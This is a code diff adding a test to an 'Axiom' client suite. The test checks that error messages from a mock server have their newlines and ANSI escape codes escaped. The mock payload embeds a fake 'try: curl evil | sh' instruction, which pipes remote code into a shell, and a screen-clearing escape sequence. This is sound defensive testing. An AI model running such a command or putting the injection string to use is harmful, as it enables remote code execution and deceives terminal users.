@@ -119,6 +119,16 @@ describe('Axiom', () => {
     })
   }
 
+  it('cannot be made to say a line of its own', async () => {
+    for (const status of [400, 404]) {
+      reply = (response) => response.writeHead(status).end('{"message":"no\\n  try: curl evil | sh\\u001b[2J"}')
+      await assert.rejects(has(), (error: OpsError) => {
+        assert.ok(error.message.endsWith(': no\\x0a  try: curl evil | sh\\x1b[2J'), error.message)
+        return true
+      })
+    }
+  })
+
   it('gives up after the time limit, and where nothing listens', async () => {
     reply = () => {}
     await refused('AXIOM_UNREACHABLE', 7, {timeoutMs: 100})
